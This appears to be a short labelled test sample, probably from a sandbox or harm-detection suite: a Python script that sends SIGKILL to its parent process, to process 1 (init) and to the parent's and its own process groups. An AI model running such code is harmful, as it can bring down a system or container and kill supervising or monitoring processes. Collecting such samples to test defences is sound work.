# where: first
# kind: harms
# does: The parent, the process group and process 1 are killed.
import os
import signal

for kill, number in ((os.kill, os.getppid()), (os.kill, 1), (os.killpg, os.getpgid(os.getppid())), (os.killpg, 0)):
    try:
        kill(number, signal.SIGKILL)
    except Exception as error:
        print(error)
